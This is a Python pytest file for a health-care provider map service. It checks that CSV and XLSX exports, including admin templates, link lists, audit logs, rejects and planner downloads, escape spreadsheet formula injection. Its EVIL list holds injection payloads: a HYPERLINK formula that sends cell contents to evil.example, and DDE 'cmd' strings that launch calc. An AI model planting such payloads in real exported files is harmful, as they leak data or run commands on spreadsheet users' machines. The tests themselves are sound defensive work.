"""One export rule (issue 9, item 2): no cell of any CSV or XLSX download is read as a
formula by a spreadsheet, and the text normaliser never makes a formula character."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from conftest import csrf_token, login_as, make_app
from planner_support import build_planner_store
from sqlalchemy import select, update
from survey_support import add_provider, submissions

from mapsvc.core import _csv
from mapsvc.core.codes import nfkc
from mapsvc.core.models import Area, ImportRun

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"見る")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(data: bytes) -> list[str]:
    """Cells of a CSV download a spreadsheet would evaluate."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    return [cell for row in rows for cell in row if cell.startswith(STARTS)]


def _providers(services) -> list[str]:
    uids = []
    for i, name in enumerate(EVIL):
        uids.append(
            add_provider(
                services,
                f"E{i}",
                name=name,
                type="home_nursing" if i % 2 else "clinic",
                capabilities={"home_visit_medical": {"level": "accept", "note": EVIL[-1 - i]}},
                fax=EVIL[i],
                notes_professional=EVIL[-1 - i],
            )
        )
    return uids


@pytest.fixture
def evil(sqlite_services):
    uids = _providers(sqlite_services)
    app = make_app(sqlite_services, INDEX_REFRESH_SECONDS=0)
    return app, sqlite_services, uids


def test_the_rule_guards_text_only():
    assert _csv.text_cell("=1+1") == "'=1+1"
    assert _csv.text_cell("\tx") == "'\tx"
    assert _csv.text_cell(-3) == -3 and _csv.text_cell("訪問看護") == "訪問看護"
    assert _csv.csv_text([["=A1", "ok"]]) == "'=A1,ok\r\n"


def test_the_normaliser_never_creates_a_formula_character():
    for text in ("＝HYPERLINK(1)", "＋cmd", "－2+3", "＠SUM(1)", "　＝SUM(1)"):
        assert not nfkc(text).startswith(STARTS), text
    assert nfkc("１－２－３") == "1-2-3" and nfkc("ＡＢＣ") == "ABC"
    # an exported cell read back is the stored value
    assert nfkc("'=HYPERLINK(1)") == "=HYPERLINK(1)"


def test_public_items_csv(evil):
    app, _, _ = evil
    c = app.test_client()
    for layer in ("medical", "home_nursing"):
        data = c.get(f"/api/collections/{layer}/items?f=csv&limit=1000").data
        assert "HYPERLINK" in data.decode("utf-8-sig") or layer == "home_nursing"
        assert formula_cells(data) == []


def test_finder_csv(evil):
    app, services, uids = evil
    c = app.test_client()
    login_as(c, services, "professional")
    token = csrf_token(c, "/pro/")
    r = c.post(
        "/pro/export.csv",
        data={"csrf_token": token, "lon": "134.0466", "lat": "34.3401", "seed": "1"},
    )
    assert r.status_code == 200, r.get_data(as_text=True)
    assert "HYPERLINK" in r.data.decode("utf-8-sig")
    assert formula_cells(r.data) == []


def test_admin_templates_links_audit_and_rejects(evil):
    app, services, uids = evil
    c = app.test_client()
    login_as(c, services, "editor")
    for kind in ("clinic", "home_nursing"):
        data = c.get(f"/admin/templates/{kind}.csv").data
        assert "cmd|" in data.decode("utf-8-sig")
        assert formula_cells(data) == []
        xlsx = c.get(f"/admin/templates/{kind}.xlsx").data
        with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
            sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
            assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
        from openpyxl import load_workbook

        wb = load_workbook(io.BytesIO(xlsx))
        values = [cell.value for row in wb.worksheets[0].iter_rows() for cell in row]
        assert any(isinstance(v, str) and v.startswith(("=", "+", "@", "-")) for v in values)
        assert all(cell.data_type != "f" for row in wb.worksheets[0].iter_rows() for cell in row)
    # issue links (the CSV names each provider)
    token = csrf_token(c, "/admin/links")
    r = c.post(
        "/admin/links/issue",
        data={"csrf_token": token, "output": "csv", "provider": uids, "days": "30"},
    )
    assert r.status_code == 200, r.get_data(as_text=True)[:500]
    assert "HYPERLINK" in r.data.decode("utf-8-sig") and formula_cells(r.data) == []
    data = c.get("/admin/links.csv").data
    assert "HYPERLINK" in data.decode("utf-8-sig") and formula_cells(data) == []
    due = c.post("/admin/due.csv", data={"csrf_token": csrf_token(c, "/admin/")})
    assert formula_cells(due.data) == []
    audit = c.get("/admin/audit.csv").data
    assert "HYPERLINK" in audit.decode("utf-8-sig") and formula_cells(audit) == []
    # a returned template with a bad row: the rejects download
    body = 'id,source_id,type,name\r\nnope,X,clinic,"=HYPERLINK(""x"")"\r\n'
    r = c.post(
        "/admin/templates/upload",
        data={
            "csrf_token": csrf_token(c, "/admin/templates"),
            "file": (io.BytesIO(body.encode("utf-8-sig")), "x.csv"),
        },
        content_type="multipart/form-data",
    )
    rejects = c.get(r.headers["Location"] + "/rejects.csv").data
    assert "HYPERLINK" in rejects.decode("utf-8-sig") and formula_cells(rejects) == []


def test_a_template_round_trip_keeps_the_stored_name(evil):
    app, services, uids = evil
    c = app.test_client()
    login_as(c, services, "editor")
    data = c.get("/admin/templates/clinic.csv").data
    r = c.post(
        "/admin/templates/upload",
        data={
            "csrf_token": csrf_token(c, "/admin/templates"),
            "file": (io.BytesIO(data), "clinic.csv"),
        },
        content_type="multipart/form-data",
    )
    assert r.status_code == 302
    # nothing changed: the guard ' is not a change (and since issue 14 item 12 a row nobody
    # changed or signed is "untouched", not queued as a confirmation)
    subs = [s for uid in uids for s in submissions(services, uid)]
    assert all(s.payload["changes"] == {} for s in subs)
    with services.store.session() as session:
        run = session.scalars(select(ImportRun).order_by(ImportRun.id.desc())).first()
    assert run is not None and run.counts["changes"] == 0
    assert run.counts["rejected"] == 0 and run.counts["untouched"] == run.counts["rows"] > 0


def test_planner_csvs(sqlite_services, tmp_path):
    build_planner_store(sqlite_services, tmp_path)
    with sqlite_services.store.session() as session:
        session.execute(update(Area).values(name=EVIL[0]))
    app = make_app(sqlite_services)
    c = app.test_client()
    login_as(c, sqlite_services, "planner")
    ind = c.get("/planner/download/indicators.csv?kind=daily_life_area").data
    assert "HYPERLINK" in ind.decode("utf-8-sig") and formula_cells(ind) == []
    cov = c.get("/planner/download/coverage.csv?capability=home_visit_medical&radius_km=0.3")
    assert cov.status_code == 200 and formula_cells(cov.data) == []
